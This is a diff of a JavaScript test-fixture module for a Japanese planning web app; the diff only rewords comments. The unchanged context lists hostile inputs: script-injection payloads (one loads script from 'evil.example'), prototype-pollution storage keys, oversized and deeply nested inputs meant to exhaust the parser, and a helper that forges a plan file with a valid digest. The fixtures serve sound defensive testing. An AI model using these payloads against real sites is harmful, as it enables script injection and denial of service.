@@ -1,11 +1,11 @@
-// What someone might put into a plan, a table, an address or the storage to make the page do something else. Each would
-// call `ran()` if the browser ran it, or ask `evil.example` if it loaded anything.
+// Inputs with which somebody might try to make the page do something else: in a plan, a table, an address or the
+// storage. Each would call `ran()` if the browser executed it, or request `evil.example` if it loaded anything.
 
 import { changedRecord, digest } from "./records.mjs";
 
 const BS = "\\";
 
-/** Texts, by what they try. Any of them may come through any door. */
+/** Texts by what they try. Any of them may come by any way. */
 export const TEXTS = {
   "a script": "<script>ran()</script>",
   "a script in other letters": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
@@ -89,8 +89,8 @@ export const TEXTS = {
 };
 
 /**
- * Markup on the clipboard that is made to hold its reader up, by what it is, with what comes of it: what its table fills, or
- * nothing, since it is given up.
+ * Clipboard markup that is made to slow its reader down: by description, a function that makes it, and the expected message; no
+ * message if the markup is refused.
  */
 export const MARKUP = {
   "a tag that never ends": [() => `<table><tr><td>1<td>2<${"a".repeat(100_000)}`, "2か所に貼り付けました。"],
@@ -104,7 +104,7 @@ export const MARKUP = {
   "more than is read": [() => `<table><tr><td>1<td>2</table>${" ".repeat(10_000_000)}`, null],
 };
 
-/** Addresses behind the `#`. */
+/** Addresses after the `#`. */
 export const FRAGMENTS = [
   "#/plan/<script>ran()</script>",
   "#/plan/<img src=x onerror=ran()>/kpi",
@@ -134,7 +134,7 @@ export const FRAGMENTS = [
 
 const nested = (levels, [open, close]) => open.repeat(levels) + close.repeat(levels);
 
-/** Files that are no sound plan file, by what they are. `whole` is a sound one. */
+/** Files that are not sound plan files, by description. `whole` is a sound file. */
 export const BROKEN_FILES = {
   "a thousand lists in one another": () => nested(1000, "[]"),
   "a hundred thousand lists, never closed": () => "[".repeat(100_000),
@@ -163,7 +163,7 @@ export const BROKEN_FILES = {
 const HEADINGS = "指標名,単位,区分,2022年度,備考\r\n";
 const rows = (count, row) => HEADINGS + Array.from({ length: count }, (_, nth) => row(nth)).join("");
 
-/** Tables whose size is the attack, by what they are, with what is said of them. What grows with its square never ends. */
+/** Tables whose size is the attack: by description, with the expected message. Quadratic work would never end. */
 export const LARGE_TABLES = {
   "one new name in twenty thousand rows": [() => rows(20_000, () => "新しい指標,件,目標,1,\r\n"), "どの計画に"],
   "twenty thousand new names": [() => rows(20_000, (nth) => `新しい指標${nth},件,目標,1,\r\n`), "一つの計画に入れられるのは500件まで"],
@@ -189,7 +189,7 @@ export const LARGE_TABLES = {
   "a hundred names of three thousand letters": [() => rows(100, (nth) => `${"長".repeat(3000)}${nth},件,目標,1,\r\n`), "どの計画に"],
 };
 
-/** Records whose size is the attack: a list of the order, and which tabs wrote a plan. */
+/** Records whose size is the attack: the order of the list, and which tabs wrote a plan. */
 export const LARGE_INDEX = () => {
   const id = (nth) => `p${[...String(nth).padStart(10, "0")].map((digit) => "bcdfghjkmn"[digit]).join("")}`;
   const body = JSON.stringify(Array.from({ length: 100_000 }, (_, nth) => id(nth)));
@@ -197,7 +197,7 @@ export const LARGE_INDEX = () => {
 };
 export const LARGE_VECTOR = Array.from({ length: 80_000 }, (_, nth) => `${nth.toString(16).padStart(8, "0")}:1`).join(" ");
 
-/** Records that something else has laid under our keys. */
+/** Records that another program has stored under our keys. */
 export const RECORDS = {
   "keikaku/plan/": "",
   "keikaku/plan/__proto__": '{"format":1}',
@@ -216,9 +216,9 @@ export const RECORDS = {
   "keikaku/__proto__": "constructor",
 };
 
-/** A plan file with that plan renamed, and its digest made anew, as one who knows how it is made would. */
+/** A plan file with that plan renamed and a valid digest, as made by somebody who knows the format. */
 export function renamed(record, id, name) {
-  // A letter that is no letter is written as the sign for one that was lost: the file is UTF-8.
+  // A surrogate without its pair becomes the replacement character, since the file is UTF-8.
   const called = `"name":${JSON.stringify(name.toWellFormed?.() ?? name)}`;
   return changedRecord(record, (body) => {
     return body.replace(/"id":"p[^"]*"/, `"id":"${id}"`).replace(/"name":"(?:[^"\\]|\\.)*"/, () => called);
